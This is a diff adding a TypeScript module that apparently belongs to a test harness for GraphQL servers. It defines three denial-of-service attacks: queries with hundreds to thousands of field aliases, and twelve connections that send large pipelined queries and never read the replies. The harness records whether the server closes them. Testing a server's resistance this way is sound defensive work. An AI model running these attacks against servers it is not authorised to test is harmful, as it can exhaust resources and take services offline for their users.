@@ -1,0 +1,67 @@
+import type { Attack, Target } from '../attack.ts';
+import { Client } from '../client.ts';
+
+const aliases = (count: number, field: string): string =>
+  Array.from({ length: count }, (_, index) => `a${index}: ${field}`).join(' ');
+
+const bodies = (articles: number, count: number): string =>
+  `{ articles(first: ${articles}) { edges { node { ${aliases(count, 'body')} } } } }`;
+
+/** A request as its bytes, for a connection that is not read. */
+export function bytesOf({ url }: Target, headers: string, body = ''): string {
+  const { host, pathname } = new URL(url);
+  const method = body === '' ? 'GET' : 'POST';
+  const length = body === '' ? '' : `Content-Length: ${Buffer.byteLength(body)}\r\n`;
+  return `${method} ${pathname} HTTP/1.1\r\nHost: ${host}\r\n${headers}\r\n${length}\r\n${body}`;
+}
+
+/** The largest of some answers that the server agrees to give. */
+async function largestAccepted(client: Client): Promise<string | null> {
+  for (const count of [80, 40, 20, 10, 5, 2, 1]) {
+    const query = bodies(100, count);
+    const reply = await client.ask({ query });
+    if (reply?.status === 200 && reply.body.startsWith('{"data":{')) return query;
+  }
+  return null;
+}
+
+export const ANSWERS: readonly Attack[] = [
+  {
+    row: 'H8',
+    title: '900 aliases of an invalid argument in each of 100 articles',
+    seconds: 30,
+    run: (client) =>
+      client.repeat({
+        query: `{ articles(first: 100) { edges { node { ${aliases(900, 'people(first: -1) { __typename }')} } } } }`,
+      }),
+  },
+  {
+    row: 'H9',
+    title: '60, 800 and 3,000 aliases of the body of each of 20 articles',
+    seconds: 40,
+    async run(client) {
+      for (const count of [60, 800, 3_000]) await client.repeat({ query: bodies(20, count) });
+    },
+  },
+  {
+    row: 'H10',
+    title: '12 clients that send 8 queries for large answers and read nothing',
+    seconds: 45,
+    async run(client, target) {
+      const query = await largestAccepted(client);
+      if (query === null) return;
+      const headers = 'Content-Type: application/json\r\nAccept: application/json';
+      const text = bytesOf(target, headers, JSON.stringify({ query }));
+      let closed = 0;
+      await Client.together(12, async () => {
+        const socket = await client.neglect(text.repeat(8));
+        socket.once('close', () => {
+          closed += 1;
+          client.tally.happened('closed by the server');
+        });
+      });
+      for (let waited = 0; closed < 12 && waited < 40; waited++) await Client.rest(1_000);
+      if (closed < 12) client.tally.find(`${12 - closed} unread connections open after 40 s`);
+    },
+  },
+];
